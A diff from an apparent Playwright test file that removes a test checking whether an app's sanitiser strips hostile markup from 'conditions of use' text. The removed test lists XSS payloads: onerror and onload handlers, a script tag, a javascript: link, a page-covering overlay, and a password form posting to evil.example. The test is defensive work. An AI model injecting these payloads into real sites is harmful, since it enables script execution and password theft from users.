@@ -76,24 +76,3 @@ test('the login page can be typed into after six requests at most', async ({ pag
   expect(asked.length, asked.join('\n')).toBeGreaterThan(3)
   expect(asked.length, asked.join('\n')).toBeLessThanOrEqual(6)
 })
-
-test.describe('markup of the operator', () => {
-  // The sanitiser parses before it cleans, and the policy says what it would have refused; nothing runs.
-  test.use({ allowedErrors: /^(Executing inline event handler|Applying inline style) violates/ })
-
-  test('markup of the operator cannot run, cover the page or ask for a password', async ({ page, loginAs, world }) => {
-    await world.patch({
-      'lookups.conditions': [
-        '<p id="root">Rule one <img src="data:image/gif;base64,AAAA" onerror="alert(1)"></p>',
-        '<form action="https://evil.example"><input type="password" name="p"></form><script>alert(1)</script>',
-        '<a href="javascript:alert(1)">tap</a><div style="position:fixed;inset:0">over</div><svg onload="alert(1)"></svg>',
-      ],
-    })
-    await loginAs('somchai')
-    await page.getByRole('button', { name: 'Terms' }).click()
-    const dialog = page.getByRole('dialog', { name: 'Conditions of use' })
-    await expect(dialog).toContainText('Rule one')
-    expect(await dialog.locator('form, script, svg[onload], [style*=fixed], [id=root], [onerror]').count()).toBe(0)
-    expect(await dialog.locator('a[href^="javascript"]').count()).toBe(0)
-  })
-})
